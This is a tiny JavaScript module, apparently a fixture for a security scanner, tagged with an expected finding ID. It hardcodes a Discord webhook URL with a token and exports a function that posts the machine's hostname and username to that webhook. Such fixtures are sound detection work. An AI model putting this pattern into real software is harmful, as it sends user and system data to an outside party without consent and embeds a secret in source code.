const os = require("os");
// pi-expect: SEC-SECRET-001
const WEBHOOK = "https://discord.com/api/webhooks/1187654321098765432/Zk3pQ9vR2sT7uW1xY5aB8cD0eF4gH6iJ2kL9mN3oP7qR1sT5uV8wX0yZ4aB6cD9eF2gH";
module.exports = () =>
  fetch(WEBHOOK, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ content: `${os.hostname()} ${os.userInfo().username}` }) });
